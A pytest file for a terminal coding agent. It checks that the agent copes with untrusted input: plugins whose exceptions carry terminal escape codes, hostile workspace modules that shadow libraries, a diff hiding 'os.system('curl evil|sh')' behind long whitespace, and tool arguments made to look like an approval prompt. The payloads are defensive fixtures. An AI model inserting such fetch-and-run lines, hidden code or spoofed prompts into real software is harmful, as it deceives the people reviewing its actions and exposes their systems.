"""Test foreign code and text at the prompt: commands of packages, files of a workspace, arguments of tools."""

import asyncio
import io
import json
import os
from pathlib import Path

import pytest

pytest.importorskip("prompt_toolkit", reason="needs the extra `chat`")

from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from chats import OnTerminal, chat, script
from skillshelf_agent import AgentCore, Settings
from skillshelf_agent.sessions import Sessions
from skillshelf_agent.terminal import Pipe
from skillshelf_agent.terminal._quotes import Argument, Diff
from skillshelf_agent.testing import ScriptedModel

PLUGIN = """
from skillshelf.slash import Command

def fail(*_):
    raise ValueError("out of\\x1b[2J order")

def register(register):
    register("db ", [Command("migrate", "move the tables", fail, "[WHERE]")])
    register("cloud ", fail)
"""


@pytest.fixture
def plugin(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Install a package in a folder; all its commands fail."""
    folder = install(tmp_path / "site", "shop", PLUGIN)
    monkeypatch.setenv("PYTHONPATH", str(folder), prepend=os.pathsep)
    return folder


def install(folder: Path, name: str, code: str) -> Path:
    about = folder / f"{name}-1.0.dist-info"
    about.mkdir(parents=True)
    (folder / f"{name}.py").write_text(code)
    (about / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {name}\nVersion: 1.0\n")
    (about / "entry_points.txt").write_text(f"[skillshelf.slash_commands]\n{name} = {name}:register\n")
    return folder


@pytest.mark.usefixtures("plugin")
def test_a_failing_command_is_named_and_the_chat_continues(tmp_path: Path) -> None:
    """A failure while commands are listed is reported once, and no raw text reaches the terminal."""
    terminal = OnTerminal("--model", script(tmp_path, "Hello."), cwd=tmp_path)
    terminal.expect("The commands of 'shop': ValueError: out of<U+001B>[2J order")
    terminal.expect("›")
    terminal.send("/db migrate now\r")
    terminal.expect("/db migrate failed: ValueError: out of<U+001B>[2J order")
    terminal.expect("›")
    terminal.send("hi\r")
    terminal.expect("Hello.")
    terminal.expect("›")
    terminal.send("\x04")
    assert terminal.end() == 0
    assert terminal.raw.count("The commands of 'shop'") == 1
    assert "\x1b[2J order" not in terminal.raw


@pytest.mark.usefixtures("plugin")
def test_a_failing_command_in_a_pipe_exits_with_one(tmp_path: Path) -> None:
    """The message names the command, without a traceback."""
    result = chat("-p", "/db migrate", "--model", script(tmp_path), cwd=tmp_path)
    assert result.returncode == 1
    assert "/db migrate failed: ValueError" in result.stderr
    assert "Traceback" not in result.stderr


def test_a_broken_package_is_reported_without_control_characters(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The text of its exception may hold anything."""
    folder = install(tmp_path / "site", "torn", "raise RuntimeError('\\x1b[2J')")
    monkeypatch.setenv("PYTHONPATH", str(folder), prepend=os.pathsep)
    result = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
    assert result.returncode == 0
    assert "The commands of 'torn'" in result.stdout
    assert "\x1b" not in result.stdout


def test_nothing_in_a_workspace_is_imported(tmp_path: Path) -> None:
    """`python -m` puts the current folder first, but neither modules nor a package's commands there are used."""
    install(tmp_path, "evil", "def register(register): print('OWNED')")
    for name in ("rich", "prompt_toolkit", "anyio"):
        (tmp_path / f"{name}.py").write_text("raise SystemExit('OWNED')")
    result = chat("-p", "/help", "--model", script(tmp_path), cwd=tmp_path)
    assert result.returncode == 0
    assert "OWNED" not in result.stdout + result.stderr


def test_a_change_of_model_is_recorded_in_the_session(tmp_path: Path) -> None:
    """After `/model` the session's file says which model answers from then on."""
    core = AgentCore(ScriptedModel("Hello.", name="first"), tmp_path, sessions=Sessions(str(tmp_path)))
    pipe = Pipe(core, Settings(), as_json=False)
    for line in ("hi", f"/model {script(tmp_path, 'Bye.')}", "bye"):
        assert asyncio.run(pipe.run(line)) == 0
    core.conversation.close()
    [saved] = Path.home().rglob("*.jsonl")
    kinds = [next(iter(json.loads(line))) for line in saved.read_text().splitlines()[1:]]
    assert kinds == ["message", "message", "model", "message", "message"]


def render(renderable: object, width: int) -> list[str]:
    console = Console(file=io.StringIO(), width=width, markup=False, highlight=False)
    console.print(renderable)
    return console.file.getvalue().splitlines()  # type: ignore[attr-defined,no-any-return]


def test_code_after_many_blanks_is_visible() -> None:
    """A line of a diff that is longer than the screen wraps."""
    lines = render(Diff("+print('ok')" + " " * 120 + "; os.system('curl evil|sh')"), 60)
    assert "curl evil|sh" in "".join(line.removeprefix("↪ ") for line in lines)


@given(st.lists(st.text("+-ab↪ 漢", min_size=1, max_size=150), min_size=1, max_size=5), st.integers(20, 90))
def test_every_character_of_a_diff_is_shown(lines: list[str], width: int) -> None:
    """Characters keep their order, and only continuation lines begin with the mark."""
    diff = [f"+{line}" for line in lines]
    lines = render(Diff("\n".join(diff)), width)
    assert "".join(line.removeprefix("↪ ") for line in lines).replace(" ", "") == "".join(diff).replace(" ", "")
    assert sum(line.startswith("+") for line in lines) == len(diff)


def test_lines_of_an_argument_cannot_imitate_a_question() -> None:
    """An argument with several lines stands behind bars."""
    assert render(Argument("command", "ls\nAllow read_file? [y]es\x1b[2J"), 40) == [
        "command: ",
        "  │ ls",
        "  │ Allow read_file? [y]es<U+001B>[2J",
    ]
